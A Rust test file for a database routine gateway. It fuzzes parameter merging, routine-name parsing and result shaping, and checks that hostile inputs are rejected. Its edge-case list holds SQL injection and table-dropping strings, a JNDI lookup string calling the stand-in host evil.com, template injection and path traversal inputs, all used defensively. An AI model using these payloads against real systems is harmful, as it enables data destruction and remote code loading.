//! Randomized and edge-case input tests for the request adapter, routine
//! name parsing and result shaping.
//!
//! None of these inputs may panic; hostile input must come back as an
//! ordinary error.

use rand::Rng;
use rand::distributions::Alphanumeric;
use routine_gateway::adapter::{RequestAdapter, RequestInput, TypedSchema};
use routine_gateway::db::RoutineName;
use routine_gateway::models::{
    ExpectedReturn, ParamValue, RawResult, ResultSet, Row, RoutineOutput,
};
use serde::Deserialize;
use serde_json::json;
use serde_with::{DisplayFromStr, PickFirst, serde_as};
use std::collections::{BTreeMap, BTreeSet};
use validator::Validate;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "   ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "sp_x`; DROP TABLE users; --".to_string(),
        "\"public\".\"f\"".to_string(),
        "a.b.c".to_string(),
        ".".to_string(),
        "a".repeat(10000),
        "a".repeat(1_000_000),
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "{{7*7}}".to_string(),
        "../../../".to_string(),
        "\x00\x01\x02".to_string(),
        "-1".to_string(),
        "9223372036854775808".to_string(),
    ]
}

#[serde_as]
#[derive(Debug, Deserialize, Validate)]
struct UserUpdate {
    #[serde_as(as = "PickFirst<(_, DisplayFromStr)>")]
    #[validate(range(min = 1))]
    id: i64,
    #[validate(length(min = 1, max = 100))]
    name: String,
    #[serde(default)]
    #[validate(email)]
    email: Option<String>,
}

fn adapter() -> RequestAdapter<TypedSchema<UserUpdate>> {
    RequestAdapter::new(TypedSchema::new())
}

#[test]
fn fuzz_merge_precedence() {
    let mut rng = rand::thread_rng();

    for _ in 0..500 {
        let mut input = RequestInput::new();
        let mut body = serde_json::Map::new();
        let mut expected: BTreeMap<String, String> = BTreeMap::new();

        // Each key independently appears in any subset of the three sources
        let keys = rng.gen_range(0..12);
        let mut sources = Vec::new();
        for k in 0..keys {
            let key = format!("k{}", rng.gen_range(0..6));
            let in_path = rng.gen_bool(0.5);
            let in_body = rng.gen_bool(0.5);
            let in_query = rng.gen_bool(0.5);
            sources.push((k, key, in_path, in_body, in_query));
        }

        for (k, key, in_path, _, _) in &sources {
            if *in_path {
                input = input.with_path(key.clone(), format!("path-{}", k));
            }
        }
        for (k, key, _, in_body, _) in &sources {
            if *in_body {
                body.insert(key.clone(), json!(format!("body-{}", k)));
            }
        }
        for (k, key, _, _, in_query) in &sources {
            if *in_query {
                input = input.with_query(key.clone(), format!("query-{}", k));
            }
        }
        input = input.with_body(serde_json::Value::Object(body.clone()));

        // Expected value per key: last writer within the highest source present
        let mut path_values = BTreeMap::new();
        let mut query_values = BTreeMap::new();
        for (k, key, in_path, _, in_query) in &sources {
            if *in_path {
                path_values.insert(key.clone(), format!("path-{}", k));
            }
            if *in_query {
                query_values.insert(key.clone(), format!("query-{}", k));
            }
        }
        let body_values: BTreeMap<String, String> = body
            .iter()
            .map(|(k, v)| (k.clone(), v.as_str().unwrap_or_default().to_string()))
            .collect();
        for source in [&path_values, &body_values, &query_values] {
            for (key, value) in source {
                expected.insert(key.clone(), value.clone());
            }
        }

        let bag = input.merge();
        let keys: BTreeSet<&String> = bag.keys().collect();
        assert_eq!(keys, expected.keys().collect::<BTreeSet<_>>());
        for (key, value) in &expected {
            assert_eq!(bag.get(key), Some(&ParamValue::from(value.as_str())), "key {}", key);
        }
    }
}

#[tokio::test]
async fn fuzz_hostile_values_are_rejected() {
    let adapter = adapter();

    for s in edge_case_strings() {
        let input = RequestInput::new()
            .with_path("id", s.clone())
            .with_body(json!({"name": s, "email": s}))
            .with_query(s.clone(), s.clone());

        let err = adapter.update(&input).await.unwrap_err();
        assert!(!err.issues.is_empty());

        // Same value arriving as a JSON id instead of a path string
        let input = RequestInput::new().with_body(json!({"id": s, "name": "Ann"}));
        let err = adapter.create(&input).await.unwrap_err();
        assert!(err.cites("id"), "{:?}", err);
    }
}

#[tokio::test]
async fn fuzz_non_object_bodies_contribute_nothing() {
    let adapter = adapter();
    let bodies = [
        json!(null),
        json!(true),
        json!(42),
        json!(-1.5),
        json!("name"),
        json!([]),
        json!([{"name": "Ann"}]),
        json!(random_string(64)),
    ];

    for body in bodies {
        let input = RequestInput::new().with_path("id", "7").with_body(body.clone());
        assert_eq!(input.merge().len(), 1, "body {}", body);

        let err = adapter.read(&input).await.unwrap_err();
        assert!(err.cites("name"), "{:?}", err);
    }
}

#[tokio::test]
async fn fuzz_hostile_bag_shapes() {
    let adapter = adapter();
    let values = [
        json!({"nested": {"deep": [1, 2, {"x": null}]}}),
        json!([[[[[]]]]]),
        json!(f64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!({"": ""}),
    ];

    for value in values {
        let input = RequestInput::new()
            .with_body(json!({"id": value.clone(), "name": value.clone()}))
            .with_query(random_string(8), random_string(8));
        let err = adapter.update(&input).await.unwrap_err();
        assert!(!err.issues.is_empty());
    }
}

#[test]
fn fuzz_routine_name_parse() {
    let mut corpus = edge_case_strings();
    corpus.extend(edge_case_strings().iter().map(|s| format!("{}.{}", s, s)));
    corpus.extend(edge_case_strings().iter().map(|s| format!("app.{}", s)));

    for s in &corpus {
        match RoutineName::parse(s) {
            Ok(name) => {
                for part in name.schema().into_iter().chain([name.name()]) {
                    assert!(!part.is_empty());
                    assert!(part.len() <= 64);
                    assert!(
                        part.chars()
                            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'),
                        "accepted {:?}",
                        s
                    );
                }
            }
            Err(e) => assert_eq!(e.code(), "INVALID_INPUT"),
        }
    }

    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let len = rng.gen_range(1..=80);
        let s = random_string(len);
        let valid = len <= 64 && s.starts_with(|c: char| c.is_ascii_alphabetic());
        assert_eq!(RoutineName::parse(&s).is_ok(), valid, "{:?}", s);
    }
}

fn random_sets(rng: &mut impl Rng, count: usize) -> Vec<ResultSet> {
    (0..count)
        .map(|set| {
            (0..rng.gen_range(0..4))
                .map(|row| {
                    let mut r = Row::new();
                    r.insert("set".into(), json!(set));
                    r.insert("row".into(), json!(row));
                    r
                })
                .collect()
        })
        .collect()
}

#[test]
fn fuzz_shape_aligns_names_with_sets() {
    let mut rng = rand::thread_rng();

    for _ in 0..300 {
        let set_count = rng.gen_range(0..7);
        let name_count = rng.gen_range(1..7);
        let sets = random_sets(&mut rng, set_count);
        let names: Vec<String> = (0..name_count).map(|i| format!("set_{}", i)).collect();
        let raw = RawResult {
            result_sets: sets.clone(),
            rows_affected: (0..set_count as u64).collect(),
        };

        match raw.clone().shape(ExpectedReturn::Multi, Some(&names)) {
            RoutineOutput::Named(map) => {
                assert_eq!(
                    map.keys().collect::<Vec<_>>(),
                    names.iter().collect::<Vec<_>>()
                );
                for (i, name) in names.iter().enumerate() {
                    assert_eq!(map[name].as_ref(), sets.get(i), "{}", name);
                }
            }
            other => panic!("expected named sets, got {:?}", other),
        }

        assert_eq!(
            raw.clone().shape(ExpectedReturn::Multi, None),
            RoutineOutput::Multi(sets.clone())
        );
        assert_eq!(
            raw.clone().shape(ExpectedReturn::Single, None),
            RoutineOutput::Single(sets.first().and_then(|s| s.first()).cloned())
        );
        assert_eq!(
            raw.shape(ExpectedReturn::None, Some(&names)),
            RoutineOutput::RowsAffected((0..set_count as u64).collect())
        );
    }
}
